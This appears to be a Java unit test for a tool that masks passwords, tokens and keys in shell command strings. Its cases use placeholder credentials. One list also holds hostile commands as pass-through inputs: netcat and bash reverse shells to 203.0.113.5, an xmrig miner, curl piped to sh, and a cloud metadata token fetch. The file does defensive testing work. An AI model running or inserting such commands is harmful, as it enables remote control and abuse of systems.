package io.tallyman.userdata;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SecretsTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "aws configure set aws_secret_access_key wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEYAB | aws configure set aws_secret_access_key ***",
                "export AWS_ACCESS_KEY_ID=AKIAQQQQWWWWEEEERRRR X=1 | export AWS_ACCESS_KEY_ID=*** X=1",
                "export AWS_SECRET_ACCESS_KEY=\"wJal/rXUtn+abc\" && curl http://a.example/x | export AWS_SECRET_ACCESS_KEY=*** && curl http://a.example/x",
                "DB_PASSWORD='a b c'; run | DB_PASSWORD=***; run",
                "mysql -u root --password=hunter2 db | mysql -u root --password=*** db",
                "mysql -u root -phunter2 db | mysql -u root -p*** db",
                "x --password hunter2 --host h | x --password *** --host h",
                "curl -H \"Authorization: Bearer abc.def\" https://h.example/p | curl -H \"Authorization: Bearer ***\" https://h.example/p",
                "curl -u bob:hunter2 https://h.example | curl -u bob:*** https://h.example",
                "git clone https://bob:hunter2@git.example/r.git | git clone https://bob:***@git.example/r.git",
                "git clone https://0123456789abcdef0123@git.example/r | git clone https://***@git.example/r",
                "curl https://h.example/x?token=abc&b=1 | curl https://h.example/x?token=***&b=1",
                "echo ghp_0123456789abcdefghijABCDEFGHIJ012345 | echo ***",
                "T=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl | T=***",
                "curl https://hooks.slack.com/services/T000/B000/abcdef | curl https://hooks.slack.com/services/***",
                "password: hunter2 | password: ***",
                "{\"api_key\": \"abc\", \"n\": 1} | {\"api_key\": ***, \"n\": 1}",
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 me@h | ssh-rsa *** me@h",
                "net user admin Hunter2! /add | net user admin *** /add",
                "ConvertTo-SecureString \"Hunter2!\" -AsPlainText | ConvertTo-SecureString *** -AsPlainText",
                "sshpass -p hunter2 ssh a@b | sshpass -p *** ssh a@b",
                "usermod -p $6$abcdefgh$0123456789abcdefABCDEF./ bob | usermod -p *** bob",
            })
    void aSecretIsMaskedAndTheRestStays(String text, String masked) {
        assertThat(Secrets.mask(text)).isEqualTo(masked);
        assertThat(Secrets.mask(masked)).isEqualTo(masked);
    }

    @Test
    void passwordsOfUsersAndPrivateKeysAreMasked() {
        assertThat(Secrets.mask("echo 'bob:hunter2' | chpasswd")).isEqualTo("echo 'bob:***' | chpasswd");
        assertThat(
                        Secrets.mask(
                                "cat >k <<E\n-----BEGIN RSA PRIVATE KEY-----\nMIIabc\ndef==\n-----END RSA PRIVATE KEY-----\nE\nssh h"))
                .doesNotContain("MII")
                .endsWith("\nE\nssh h");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -fsSL https://get.example/install.sh | sh",
                "TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token)",
                "PASSWORD=`openssl rand -hex 8`",
                "curl -H \"Authorization: Bearer $(curl http://a.example/t)\" http://b.example/x",
                "export SECRET=$OTHER; ./run",
                "TOKEN_URL=https://a.example/x ./run",
                "wget --token-url=http://a.example/x",
                "nc -e /bin/sh 203.0.113.5 4444",
                "xmrig -o stratum+tcp://pool.example:3333 -u 4",
                "docker run -p 8080:80 nginx",
                "mkdir -p /opt/x",
                "bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
            })
    void whatRulesNeedIsNotTouched(String text) {
        assertThat(Secrets.mask(text)).isEqualTo(text);
    }

    @Test
    void theWordBehindASecretOptionIsMasked() {
        assertThat(Secrets.mask(List.of("tool", "--password", "hunter2", "--host", "h")))
                .containsExactly("tool", "--password", "***", "--host", "h");
        assertThat(Secrets.mask(List.of("curl", "-u", "bob:hunter2", "https://h.example")))
                .containsExactly("curl", "-u", "bob:***", "https://h.example");
        assertThat(Secrets.mask(List.of("sh", "-c", "PASSWORD=abc ./run"))).contains("PASSWORD=*** ./run");
    }
}
